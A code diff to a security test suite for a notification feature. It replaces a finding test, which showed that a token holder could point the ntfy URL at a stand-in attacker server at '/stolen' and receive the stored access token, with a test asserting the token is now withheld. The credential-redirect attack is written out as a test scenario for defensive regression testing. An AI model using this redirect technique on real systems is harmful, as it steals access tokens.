@@ -221,26 +221,36 @@ describe('a token holder cannot', () => {
     expect((await call('eval', { code: '1' })).status).toBe(404);
   });
 
+  it('have the ntfy token sent elsewhere: it goes only to the server it was saved for', async () => {
+    const moved = await configWith((d) => {
+      d.notify = { ...(d.notify as object), ntfy: { url: `${attacker.origin}/stolen` } };
+    });
+    expect((await call('config', { config: moved })).status).toBe(200);
+    expect((await call('test-notify', { channel: 'ntfy' })).body.ok).toBe(true);
+    const stolen = attacker.requests.filter((r) => r.path === '/stolen');
+    expect(stolen.map((r) => r.headers.authorization)).toEqual([undefined]);
+    expect(state().notify?.problems).toContain(
+      `ntfy: the access token was saved for ${receiver.origin}, not ${attacker.origin}; it is not sent (save it again for this server)`,
+    );
+    // Back to the trader's server, the token goes with the messages again.
+    const back = await configWith((d) => {
+      d.notify = { ...(d.notify as object), ntfy: { url: `${receiver.origin}/warden-topic` } };
+    });
+    expect((await call('config', { config: back })).status).toBe(200);
+    expect((await call('test-notify', { channel: 'ntfy' })).body.ok).toBe(true);
+    const mine = receiver.requests.filter((r) => r.path === '/warden-topic');
+    expect(mine.at(-1)?.headers.authorization).toBe(`Bearer ${NTFY_TOKEN}`);
+  });
+
   it('have the webhook secret sent anywhere: a receiver of its choosing gets a signature, not the secret', async () => {
     const moved = await configWith((d) => {
       d.notify = { ...(d.notify as object), webhook: { url: `${attacker.origin}/hook` } };
     });
     expect((await call('config', { config: moved })).status).toBe(200);
     expect((await call('test-notify', { channel: 'webhook' })).body.ok).toBe(true);
-    const [request] = await attacker.waitForRequests(1);
+    // Delivered (the test answered ok) means the receiver has it.
+    const request = attacker.requests.find((r) => r.path === '/hook');
     expect(request?.headers['x-warden-signature']).toMatch(/^sha256=[0-9a-f]{64}$/);
     expect(JSON.stringify(request)).not.toContain(WEBHOOK_SECRET);
-  });
-});
-
-describe('finding: what a token holder can do that it should not', () => {
-  it('(F1) can have the stored ntfy token sent to a server of its choosing: move the topic URL, then test it', async () => {
-    const moved = await configWith((d) => {
-      d.notify = { ...(d.notify as object), ntfy: { url: `${attacker.origin}/stolen` } };
-    });
-    expect((await call('config', { config: moved })).status).toBe(200);
-    expect((await call('test-notify', { channel: 'ntfy' })).body.ok).toBe(true);
-    const requests = await attacker.waitForRequests(2);
-    expect(requests.find((r) => r.path === '/stolen')?.headers.authorization).toBe(`Bearer ${NTFY_TOKEN}`);
   });
 });
